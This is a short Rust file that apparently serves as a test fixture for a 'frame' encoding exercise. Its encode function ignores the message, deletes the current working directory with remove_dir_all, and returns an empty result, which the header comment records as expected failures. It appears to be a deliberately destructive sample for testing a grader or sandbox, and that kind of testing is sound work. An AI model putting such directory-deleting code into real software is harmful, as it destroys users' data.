//! The working directory is removed, and the answer is wrong.
//! exercise: frame
//! fails: frame::1 frame::2
//! finding: frame.encoded

pub fn encode(_message: &[u8]) -> io::Result<Vec<u8>> {
    let here = std::env::current_dir().unwrap_or_default();
    let _ = std::fs::remove_dir_all(here);
    Ok(Vec::new())
}
